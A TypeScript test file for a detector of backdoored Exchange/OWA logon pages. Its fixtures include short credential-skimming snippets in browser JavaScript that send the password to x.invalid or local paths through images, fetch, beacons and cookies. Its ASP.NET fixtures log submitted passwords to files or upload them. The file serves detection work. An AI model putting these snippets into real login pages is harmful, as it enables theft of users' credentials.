import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { analyseLogon } from './index.js';

// Written in pieces that do nothing outside the place they describe: no address leads anywhere.
const js = (code: string, exchange = true) => analyseLogon(code, '.js', { exchange });
const page = (code: string, exchange = true) =>
  analyseLogon(`${['<%', '@ Page Language="C#" %>'].join('')}${code}`, '.aspx', { exchange });

/** What a genuine sign-in script does, in outline. */
const GENUINE = `
function gbid(s) { return document.getElementById(s); }
function clkLgn() {
  if (gbid("rdoPrvt") && gbid("rdoPrvt").checked) {
    var d = new Date(); d.setTime(d.getTime() + 1209600000);
    document.cookie = "logondata=acc=" + (gbid("chkBsc").checked ? 1 : 0) + "&lgn=" + gbid("username").value + "; expires=" + d.toUTCString();
  }
  if (gbid("password").value == "" || gbid("password").value.length > 127) { gbid("signInErrorDiv").style.display = "block"; return; }
  gbid("passwordText").value = gbid("password").value;
  if (window.XMLHttpRequest) { var r = new XMLHttpRequest(); r.open("GET", "/owa/ping.owa?t=" + d, true); r.send(null); }
  document.logonForm.submit();
}`;

describe('what is done with the password in the browser', () => {
  test.each([
    [
      'a request',
      'var r=new XMLHttpRequest(); r.open("POST","/owa/auth/x.aspx"); r.send("u="+gbid("username").value+"&p="+gbid("password").value);',
    ],
    [
      'an address',
      'var p=gbid("password").value; var r=new XMLHttpRequest(); r.open("GET","https://x.invalid/?"+escape(p)); r.send();',
    ],
    [
      'a picture',
      'var p = document.getElementById("password").value; new Image().src = "//x.invalid/a.gif?" + btoa(p);',
    ],
    [
      'a picture, later',
      'var e = document.forms[0].password; function s() { var i = new Image(); i.src = "//x.invalid/?" + e.value; }',
    ],
    [
      'fetch',
      'fetch("/owa/auth/15/x.aspx", {method:"POST", body: JSON.stringify({p: document.querySelector("input[type=password]").value})});',
    ],
    ['jQuery', '$.post("/x", {u: $("#username").val(), p: $("#password").val()});'],
    ['a cookie', 'document.cookie = "s=" + encodeURIComponent(gbid("password").value);'],
    [
      'a beacon through own functions',
      'function enc(s){return btoa(s);} function out(d){navigator.sendBeacon("/owa/x", d);} var o = gbid("password"); out(enc(o.value));',
    ],
    ['a list', 'var a = []; a.push(gbid("password").value); new Image().src = "/owa/auth/x.png?" + a.join("|");'],
    ['the browser', 'localStorage.setItem("k", gbid("password").value)'],
    [
      'names that are put together',
      'var f = document.getElementById("pass" + "word"); new Image().src = "/x?" + f.value;',
    ],
  ])('%s', (_, code) => {
    const { level, findings } = js(`${GENUINE}\n${code}`);
    expect(level).toBe('malicious');
    expect(findings.length).toBeGreaterThan(0);
  });

  test('the genuine script, as a file and in a page', () => {
    expect(js(GENUINE).findings).toEqual([]);
    expect(
      page(
        `<script>${GENUINE}</script><input type="password" id="password" onkeypress="if (password.value.length > 3) clkLgn()">`,
      ).findings,
    ).toEqual([]);
  });

  test('elsewhere, only what goes to another server', () => {
    const own = '$.post("/login", {p: $("#password").val()});';
    expect(js(own, false).findings).toEqual([]);
    expect(js('fetch("https://x.invalid/c?p=" + document.getElementById("password").value)', false).level).toBe(
      'suspicious',
    );
  });

  test('the line is named', () => {
    expect(js('var a = 1;\nvar p = gbid("password").value;\nnew Image().src = "/x?" + p;').findings[0]?.lines).toEqual([
      { line: 3, text: 'new Image().src = "/x?" + p;' },
    ]);
  });
});

describe('what is done with the password on the server', () => {
  test.each([
    [
      'a file',
      '<% System.IO.File.AppendAllText("C:\\\\x.txt", Request.Form["username"] + Request.Form["password"]); %>',
    ],
    [
      'a file, through a variable',
      '<% string p = Request["password"]; string l = DateTime.Now + p; System.IO.File.AppendAllText(@"C:\\x.log", l); %>',
    ],
    [
      'an open file',
      '<script runat=server>void Page_Load(object s, EventArgs e) { var w = new System.IO.StreamWriter("x.txt", true); w.WriteLine(Request.Params["passwd"]); w.Close(); }</script>',
    ],
    [
      'through an own function',
      '<script runat=server>void Save(string d) { System.IO.File.AppendAllText("x", d); } void Page_Load() { Save(Request.Form["password"]); }</script>',
    ],
    ['another server', '<% new System.Net.WebClient().UploadString("http://x.invalid/", Request.Form["password"]); %>'],
  ])('%s', (_, code) => {
    expect(page(code).level).toBe('malicious');
  });
  test('near misses', () => {
    expect(page('<% System.IO.File.AppendAllText("x.log", Request.Form["username"]); %>').findings).toEqual([]);
    expect(
      page(
        '<% if (Membership.ValidateUser(Request.Form["user"], Request.Form["password"])) System.IO.File.AppendAllText("x.log", "in"); %>',
      ).findings,
    ).toEqual([]);
    expect(
      page(
        '<% bool empty = Request.Form["password"] == ""; System.IO.File.AppendAllText("x.log", empty.ToString()); %>',
      ).findings,
    ).toEqual([]);
    expect(
      page('<% new System.Net.WebClient().UploadString("http://x.invalid/", Request.Form["password"]); %>', false)
        .findings,
    ).toEqual([]);
  });
});

test('total: any text', () => {
  const part = fc.constantFrom(
    'gbid("password")',
    '.value',
    '=',
    '(',
    ')',
    '{',
    '}',
    'function f(a)',
    'new Image().src',
    ';',
    '"',
    '<script>',
    '<%',
    '%>',
    'password',
  );
  fc.assert(
    fc.property(
      fc.array(fc.oneof(part, fc.string()), { maxLength: 60 }),
      fc.constantFrom('.js', '.aspx', '.asp', '.htm'),
      (parts, extension) => {
        analyseLogon(parts.join(''), extension, { exchange: true });
      },
    ),
    { numRuns: 500 },
  );
});

test('deep nesting ends', () => {
  const start = process.cpuUsage().user;
  js(`var password = ${'f('.repeat(20_000)}1${')'.repeat(20_000)};`);
  js(`${'function a(){'.repeat(3000)}gbid("password").value${'}'.repeat(3000)}`);
  expect((process.cpuUsage().user - start) / 1000).toBeLessThan(8000);
});
